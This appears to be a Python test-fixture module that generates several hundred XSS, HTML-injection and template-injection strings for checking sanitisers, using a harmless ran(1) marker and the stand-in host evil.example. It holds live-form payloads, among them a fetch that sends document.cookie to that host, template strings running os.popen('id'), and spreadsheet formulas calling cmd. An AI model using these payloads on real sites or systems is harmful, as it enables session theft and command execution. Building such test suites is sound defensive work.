"""Texts that would run in a browser if a page took any of them for more than a text, by families.

Each calls ``ran()`` or opens a dialog, asks an address elsewhere, or changes the page: whoever opens a page with them
listens for all of that. No two are the same; none holds what HTML itself can't hold (NUL, a lone carriage return).
"""

# ruff: noqa: E501 - lists of odd strings
from __future__ import annotations

from collections.abc import Iterator
from urllib.parse import quote

ELSEWHERE = "evil.example"
RUN = "ran(1)"
VOID = (
    "img src=x",
    "input autofocus",
    "image src=x",
    "embed src=x",
    "source src=x",
    "track src=x",
    "isindex",
    "bgsound src=x",
)
HOLDS = (
    "body", "svg", "video", "audio", "details open", "marquee", "iframe", "object data=x", "select autofocus", "textarea autofocus",
    "math", "style", "button autofocus", "form", "table", "div contenteditable", "dialog open", "keygen autofocus", "a href=x",
)  # fmt: skip
EVENTS = (
    "onerror", "onload", "onfocus", "onclick", "onmouseover", "onpointerenter", "ontoggle", "onbegin", "onanimationstart",
    "ontransitionend", "onbeforeinput", "onauxclick", "oncanplay", "onhashchange", "onmessage", "onpageshow", "onresize",
    "onscroll", "onsearch", "onselectstart", "onwheel", "oncut", "onpaste", "ondrag", "oncontextmenu", "onfocusin", "onstart",
    "onloadstart", "onpopstate", "onunhandledrejection", "onbeforetoggle", "onscrollend", "onformdata", "onslotchange",
)  # fmt: skip
SCRIPTS = (
    "<script>{run}</script>", "<SCRIPT>{run}</SCRIPT>", "<ScRiPt>{run}</sCrIpT>", "<script\n>{run}</script\n>", "<script/x>{run}</script/>",
    "<script >{run}</script >", "<script\t>{run}</script\t>", "<script type=module>{run}</script>", "<script src=//evil.example/a.js></script>",
    "<script src=data:,{run}></script>", "<script src='data:text/javascript,{run}'>", "<scr<script>ipt>{run}</scr</script>ipt>",
    "<script><!--{run}--></script>", "<script>/*</script><script>*/{run}</script>", "<<script>{run}//<</script>",
    "<script async src=//evil.example></script>", "<script defer src=\\\\evil.example\\a></script>", "<script nomodule>{run}</script>",
    "<script type=text/vbscript>{run}</script>", "<svg><script>{run}</script></svg>", "<svg><script href=//evil.example/a.js />",
    "<math><script>{run}</script></math>", "<template><script>{run}</script></template>", "<noscript><script>{run}</script></noscript>",
    "<script type=importmap>{{\"imports\":{{\"a\":\"//evil.example\"}}}}</script>", "<script>window['ra'+'n'](1)</script>",
    "<script>setTimeout('{run}')</script>", "<script>eval(atob('cmFuKDEp'))</script>", "<script>import('//evil.example/a.js')</script>",
    "<script>fetch('//evil.example?'+document.cookie)</script>", "<script>new Image().src='//evil.example'</script>",
    "<script>document.write('<img src=//evil.example>')</script>", "<script>location='javascript:{run}'</script>",
    "<script>navigator.sendBeacon('//evil.example')</script>", "<script>document.title='ran'</script>",
)  # fmt: skip
ELEMENTS = (
    "<iframe src=javascript:{run}>", "<iframe srcdoc='<script>parent.{run}</script>'>", "<iframe src=//evil.example></iframe>",
    "<object data=javascript:{run}>", "<object data=//evil.example/a.swf>", "<embed src=//evil.example/a.svg>", "<embed code=javascript:{run}>",
    "<link rel=stylesheet href=//evil.example/a.css>", "<link rel=import href=//evil.example>", "<link rel=preload as=script href=//evil.example>",
    "<link rel=dns-prefetch href=//evil.example>", "<meta http-equiv=refresh content='0;url=//evil.example'>", "<meta charset=utf-7>",
    "<meta http-equiv=refresh content='0;url=javascript:{run}'>", "<meta http-equiv=set-cookie content=a=b>", "<base href=//evil.example/>",
    "<base target=_blank>", "<form action=//evil.example><input type=submit autofocus>", "<form action=javascript:{run}><button>", "<button formaction=//evil.example>x",
    "<style>@import '//evil.example/a.css';</style>", "<style>*{{background:url(//evil.example)}}</style>", "<style>body{{display:none}}</style>",
    "<div style=background:url(//evil.example)>", "<div style=width:expression({run})>", "<div style=position:fixed;inset:0>", "<img src=//evil.example/a.png>",
    "<img srcset='//evil.example/a.png 2x'>", "<picture><source srcset=//evil.example/a><img></picture>", "<video src=//evil.example/a.mp4 autoplay>",
    "<video poster=//evil.example/a.png>", "<audio src=//evil.example/a.mp3 autoplay>", "<input type=image src=//evil.example/a>",
    "<table background=//evil.example/a.png>", "<body background=//evil.example/a.png>", "<a ping=//evil.example href=/>x</a>",
    "<a href=javascript:{run} autofocus onfocus=this.click()>x</a>", "<area href=javascript:{run}>", "<portal src=//evil.example>", "<frameset onload={run}>",
    "<frame src=javascript:{run}>", "<applet code=a archive=//evil.example>", "<bgsound src=//evil.example>", "<layer src=//evil.example>",
    "<xml src=//evil.example id=x>", "<plaintext>", "<xmp>", "<noembed>", "<noframes>", "<textarea>", "<title>", "<select><option>", "<h1>Signed out</h1>",
    "<input name=csrf_token value=x>", "<img name=getElementById>", "<form name=body>", "<img id=news>", "<a id=main name=main>", "<dialog open>Sign in again</dialog>",
    "<template shadowrootmode=open><script>{run}</script></template>", "<div hidden=until-found onbeforematch={run}>", "<fencedframe src=//evil.example>",
)  # fmt: skip
BREAKOUTS = (
    "\">", "'>", "`>", "\" ", "' ", "--> ", "]]> ", "*/ ", "</title>", "</textarea>", "</style>", "</script>", "</noscript>", "</xmp>",
    "</option></select>", "</button>", "</label>", "</a>", "</time>", "</p>", "\\\">", "\\'>", "&quot;>", "&#34;>", "&#x22;>", "%22%3E", "\u201c>",
    "</template>", "</iframe>", "</noembed>", "</main></body></html>", "</li></ol>", "</dd></dl>", "</td></tr></table>", "</svg>", "?>", "%>",
)  # fmt: skip
AFTER = (
    "<script>ran(1)</script>",
    "<img src=x onerror=ran(1)>",
    "<svg onload=ran(1)>",
    "onfocus=ran(1) autofocus x=",
    "style=animation-name:x onanimationstart=ran(1) x=",
)
URLS = (
    "javascript:{run}", "JavaScript:{run}", "java\nscript:{run}", "java\tscript:{run}", " javascript:{run}", "\x01javascript:{run}", "javascript&colon;{run}",
    "&#106;avascript:{run}", "&#x6A;avascript:{run}", "javascript:%72an(1)", "javascript://%0a{run}", "javascript:/*--></script>*/{run}", "javascript:void {run}",
    "data:text/html,<script>{run}</script>", "data:text/html;base64,PHNjcmlwdD5yYW4oMSk8L3NjcmlwdD4=", "data:image/svg+xml,<svg onload={run}>", "vbscript:msgbox(1)",
    "livescript:{run}", "view-source:javascript:{run}", "blob:null/{run}", "feed:javascript:{run}", "jar:http://evil.example!/", "//evil.example/x",
    "https://evil.example/?x=\"onmouseover={run}", "http://evil.example<script>{run}</script>", "https://evil.example@127.0.0.1/", "\\\\evil.example\\share",
    "/\\evil.example", "http:evil.example", "https:///evil.example", "tel:+1555<img src=x onerror={run}>", "mailto:a@evil.example?body=<script>{run}</script>",
    "http://127.0.0.1/sign-out", "/i/../sign-out", "ws://evil.example", "file:///etc/passwd", "intent://x#Intent;scheme=javascript;end", "sms:+1555?body=x\"onclick={run}",
)  # fmt: skip
DRAWN = (
    "<svg onload={run}>", "<svg/onload={run}>", "<svg><animate onbegin={run} attributeName=x dur=1s>", "<svg><set attributeName=onload to={run}>", "<svg><a xlink:href=javascript:{run}><text y=20>x</text></a>",
    "<svg><use href=//evil.example/a.svg#x>", "<svg><image href=//evil.example/a.png>", "<svg><foreignObject><iframe src=javascript:{run}></foreignObject>", "<svg><style>@import'//evil.example'</style>",
    "<svg><animate xlink:href=#x attributeName=href values=javascript:{run} /><a id=x><text>x</text></a>", "<svg><handler xmlns:ev=http://www.w3.org/2001/xml-events ev:event=load>{run}</handler>",
    "<svg><title><script>{run}</script></title>", "<svg><desc><img src=x onerror={run}></desc>", "<svg><feImage href=//evil.example/a>", "<svg><script xlink:href=data:,{run} />", "<svg><discard onbegin={run}>",
    "<math href=javascript:{run}>x</math>", "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror={run}&gt;\">", "<math><annotation-xml encoding=text/html><script>{run}</script>",
    "<math><maction actiontype=statusline xlink:href=javascript:{run}>x</maction>", "<svg><p><style><g title=\"</style><img src=x onerror={run}>\">", "<noscript><p title=\"</noscript><img src=x onerror={run}>\">",
    "<form><math><mtext></form><form><mglyph><svg><mtext><style><path id=\"</style><img onerror={run} src>\">", "<svg></p><style><a id=\"</style><img src=1 onerror={run}>\">", "<table><tr><td></table><svg onload={run}>",
    "<select><template><script>{run}</script></template></select>", "<p id=x><svg><desc></p><img src=x onerror={run}>", "<!--><img src=x onerror={run}>-->", "<!--!><img src=x onerror={run}>", "<![CDATA[><img src=x onerror={run}>]]>",
    "<?xml-stylesheet href='javascript:{run}'?>", "<!DOCTYPE html [<!ENTITY x '<img src=x onerror={run}>'>]>&x;", "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>{run}</x:script>", "</br style=a:expression({run})>", "<//img src=x onerror={run}>",
)  # fmt: skip
TEMPLATES = (
    "{{{{7*7}}}}", "{{{{config}}}}", "{{{{self.__init__.__globals__}}}}", "{{{{''.__class__.__mro__[1].__subclasses__()}}}}", "{{{{request.application}}}}", "{{% raw %}}<img src=x onerror={run}>{{% endraw %}}", "{{% include 'base.html' %}}",
    "{{# comment #}}<img src=x onerror={run}>", "{{{{'<img src=x onerror={run}>'|safe}}}}", "{{{{cycler.__init__.__globals__.os.popen('id').read()}}}}", "{{{{url_for.__globals__}}}}", "{{{{lipsum.__globals__}}}}", "{{% for x in () %}}",
    "${{7*7}}", "${{{run}}}", "#{{7*7}}", "*{{7*7}}", "<%= 7*7 %>", "<% {run} %>", "[[${{7*7}}]]", "@(7*7)", "{{{{constructor.constructor('{run}')()}}}}", "{{{{$on.constructor('{run}')()}}}}", "{{{{_c.constructor('{run}')()}}}}",
    "<div ng-app ng-init={run}>", "<div v-html=\"'<img src=x onerror={run}>'\">", "<x v-on:click={run}>", "<div x-data x-init={run}>", "<div data-hx-get=//evil.example hx-trigger=load>", "<div hx-on:load={run}>", "<b data-bind='html: {run}'>",
    "%(reference)s", "{{reference}}", "{{0.__class__}}", "%s%n", "{{name!r}}", "\\u003cscript\\u003e{run}\\u003c/script\\u003e", "\\x3cscript\\x3e{run}\\x3c/script\\x3e", "\\74script\\76{run}", "';{run};//", "\";{run};//", "\\';{run};//", "`;${{{run}}}//",
    "}}}}</script><script>{run}</script>", "</script><!--{run}", "\u2028{run}", "\u2029{run}", "-{run}-", "'-{run}-'", "\"+{run}+\"", "1;{run}", "*/{run}/*", "__proto__", "constructor", "=cmd|' /C calc'!A0", "@SUM(1+1)*cmd", "+{run}", "-2+3+cmd|' /C calc'!A0",
)  # fmt: skip
CORE = ("<script>ran(1)</script>", "<img src=x onerror=ran(1)>", "<svg/onload=ran(1)>", '"onfocus=ran(1) autofocus="')
BIDI = (
    "\u202e{0}\u202c",
    "\u2066{0}\u2069",
    "\u200f{0}",
    "\u061c{0}\u061c",
    "\u202d{0}",
    "\u2067{0}\u2069\u2069\u2069",
    "a\u0301\u0302\u0303{0}\u0351\u036b\u0343",
)
LETTERS = str.maketrans({"<": "＜", ">": "＞", '"': "＂", "'": "＇", "=": "＝", "(": "（", ")": "）"})
LOOKALIKE = str.maketrans({"<": "‹", ">": "›", "s": "ѕ", "c": "с", "i": "і", "p": "р"})


def attacks() -> list[str]:
    """Return the texts, the same ones each time, more than 600."""
    return list(dict.fromkeys(_all()))


def _all() -> Iterator[str]:
    for family in (SCRIPTS, ELEMENTS, URLS, DRAWN, TEMPLATES):
        yield from (one.format(run=RUN) for one in family)
    yield from _handlers()
    yield from (f"{before}{after}" for before in BREAKOUTS for after in AFTER)
    yield from (
        url for one in URLS[:12] for url in (f'<a href="{one.format(run=RUN)}">x</a>', f"[x]({one.format(run=RUN)})")
    )
    for core in CORE:
        yield from (one.format(core) for one in BIDI)
        yield from _encoded(core)


def _handlers() -> Iterator[str]:
    """Yield each event once, on this element or that, written in one of many ways."""
    elements = (*(f"<{one} {{}}>" for one in VOID), *(f"<{one} {{}}>x</{one.split()[0]}>" for one in HOLDS))
    ways = (
        "{}={}",
        "{}='{}'",
        '{}="{}"',
        "{}=`{}`",
        "{} = {}",
        "{}\n=\n{}",
        "x/{}={}",
        "x'y'{}={}",
        "\u00a0{}={}",
        "\f{}={}",
    )
    for number, event in enumerate((*EVENTS, *EVENTS, *EVENTS)):
        name = event.upper() if number % 3 == 1 else event
        yield elements[number % len(elements)].format(ways[number % len(ways)].format(name, RUN))


def _encoded(core: str) -> Iterator[str]:
    """Yield a text in the spellings that something on the way might undo."""
    yield from (
        quote(core),
        quote(quote(core)),
        core.encode("utf-7").decode(),
        core.translate(LETTERS),
        core.translate(LOOKALIKE),
    )
    yield core.replace("<", "&lt;").replace(">", "&gt;")
    yield core.replace("<", "&amp;lt;").replace(">", "&amp;gt;")
    yield "".join(f"&#{ord(char)};" for char in core)
    yield "".join(f"&#x{ord(char):x}" for char in core)
    yield "".join(f"\\u{ord(char):04x}" for char in core)
    yield "".join(f"%u{ord(char):04x}" for char in core)
    yield "".join(f"={ord(char):02X}" for char in core)
    yield core.replace("<", "%c0%bc").replace(">", "%c0%be")
    yield core.replace("<", "\u00bc").replace(">", "\u00be")
    yield core.replace("<", "<\u200b").replace("=", "\ufeff=")
    yield core.replace("<", "<\u00ad")
    yield core.replace("<", "‹<").replace(">", ">›")
    yield "+ADw-" + core[1:-1] + "+AD4-"
    yield core.encode("utf-16-be").decode("latin-1").replace("\x00", "\x01")
    yield core[::-1]
    yield core.swapcase()
